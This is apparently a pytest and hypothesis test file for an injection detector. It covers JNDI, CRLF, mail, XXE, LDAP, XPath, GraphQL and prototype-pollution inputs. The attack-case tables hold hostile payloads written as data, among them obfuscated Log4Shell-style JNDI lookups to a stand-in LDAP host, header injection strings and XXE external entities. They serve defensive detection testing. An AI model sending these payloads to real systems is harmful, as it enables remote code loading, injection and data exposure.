"""The smaller languages: JNDI look-ups, header and mail injection, XML, LDAP, XPath, GraphQL, key paths."""

from __future__ import annotations

from importlib import import_module

import pytest
from hypothesis import given
from hypothesis import strategies as st

FAMILIES = ("jndi", "crlf", "mail", "xxe", "ldap", "xpath", "graphql", "proto")


def sure(family: str, text: str, place: str = "query", name: str = "") -> set[str]:
    signs = import_module(f"lambdaguard.lexers.{family}").scan(text, place, name)
    return {rule for rule, _, _ in signs if int(rule[-3:]) < 100}


def disguise(letter: str, way: int) -> str:
    return [
        letter,
        f"${{lower:{letter.upper()}}}",
        f"${{::-{letter}}}",
        f"${{upper:{letter}}}",
        f"${{a:b:-{letter}}}",
        f"${{env:NO:-${{lower:{letter}}}}}",
    ][way]


@given(st.lists(st.integers(0, 5), min_size=4, max_size=4))
def test_any_mixture_of_nested_look_ups_is_evaluated(ways: list[int]) -> None:
    assert sure("jndi", "${" + "".join(map(disguise, "jndi", ways)) + ":ldap://e.example/a}") == {"LG-JNDI-001"}


@given(st.integers(1, 3000))
def test_nesting_without_end_is_no_fault(depth: int) -> None:
    sure("jndi", "${" * depth + "}" * depth)
    sure("graphql", "{a" * depth, "body")


@pytest.mark.parametrize("line", ["\r\n", "\n", "\r", "\u560a\u560d", "\\r\\n"])
@pytest.mark.parametrize("header", ["Set-Cookie: a=b", "X-New-One: 1", "Location: //e.example"])
@pytest.mark.parametrize("place", ["query", "header", "path", "cookie"])
def test_a_second_header(place: str, header: str, line: str) -> None:
    assert "LG-CRLF-001" in sure("crlf", f"de{line}{header}", place)


@pytest.mark.parametrize(
    ("family", "place", "text"),
    [
        ("mail", "query", "a@b.example\r\nBcc: c@d.example"),
        ("mail", "body", "a@b.example\nbcc:c@d.example"),
        ("mail", "query", "x\r\nMAIL FROM:<a@b.example>"),
        ("xxe", "body", '<!DOCTYPE a [\n<!ENTITY b\n  SYSTEM\n  "x" >\n]>'),
        ("xxe", "body", "<!DOCTYPE a SYSTEM 'jar:file:///x!/y'>"),
        ("xxe", "body", "<!ENTITY &#x25; a '<!ENTITY b SYSTEM \"x\">'>"),
        ("ldap", "query", "ann)(mobile=*"),
        ("ldap", "query", "*)(&(cn=a"),
        ("xpath", "query", "x' or string-length(/*)>0 or 'a'='b"),
        ("xpath", "query", "'] | //a | x['"),
        ("graphql", "body", "query{a" + "{b" * 20 + "}" * 21),
        ("graphql", "body", "{" + " ".join(f"x{n}:pay(id:1){{ok}}" for n in range(45)) + "}"),
        ("graphql", "body", "fragment A on T{...B} fragment B on T{...C} fragment C on T{...A}"),
        ("graphql", "body", "{ __schema { types { name } } }"),
        ("proto", "query", "a[b][__proto__][c]=1"),
        ("proto", "body", '{"a": {"__proto__" : {"b": 1}}}'),
        ("proto", "query", "constructor.prototype.x=1"),
        ("proto", "query", "__init__.__globals__.x"),
    ],
)
def test_attacks(family: str, place: str, text: str) -> None:
    assert sure(family, text, place)


@pytest.mark.parametrize(
    ("family", "place", "text"),
    [
        ("jndi", "body", "cp ${SRC}/a ${DST:-/tmp}; echo ${#list[@]}"),
        ("jndi", "body", "`Dear ${user.name}`"),
        ("crlf", "body", "Dear all,\n\nhost: Ann\nlocation: Rome\n\nBye"),
        ("crlf", "body", "name: x\ncontent-type: text/plain\ncache-control: none\n"),
        ("crlf", "body", "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nhi"),
        ("mail", "body", "From: Ann\nTo: Bob <b@a.example>\nCc: c@a.example\n\nHi"),
        ("mail", "body", "Notes of the meeting\nto: be done\nfrom: 10 to 12"),
        ("xxe", "body", "<?xml version='1.0'?><!DOCTYPE html><html/>"),
        ("xxe", "body", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'),
        ("ldap", "query", "f(x)(y) and (a|b)"),
        ("ldap", "query", "5*(3+4)*(2)"),
        ("ldap", "query", "cn=Ann,dc=a,dc=example"),
        ("xpath", "query", "//a/b[1]/text()"),
        ("xpath", "body", "parent::boot() calls count($a)"),
        ("graphql", "body", "query($a: Int!){ a(b: $a) { __typename c d { e } } }"),
        ("graphql", "body", '{"a": {"b": {"c": {"d": {"e": {"f": 1}}}}}}'),
        ("proto", "body", "Foo.prototype.bar = () => 1; class A { constructor() {} }"),
        ("proto", "body", "a.__proto__ === Array.prototype"),
        ("proto", "body", "def __init__(self): super().__init__()"),
    ],
)
def test_benign(family: str, place: str, text: str) -> None:
    assert not sure(family, text, place)


@given(st.sampled_from(FAMILIES), st.text(max_size=200), st.sampled_from(("body", "query", "header")))
def test_never_faults(family: str, text: str, place: str) -> None:
    sure(family, text, place)


@given(st.sampled_from(FAMILIES), st.text(alphabet="${}:-\r\n()|&*<!%\"'[]/._@abjndicxTo:", max_size=300))
def test_never_faults_on_the_alphabet_of_attacks(family: str, text: str) -> None:
    sure(family, text)
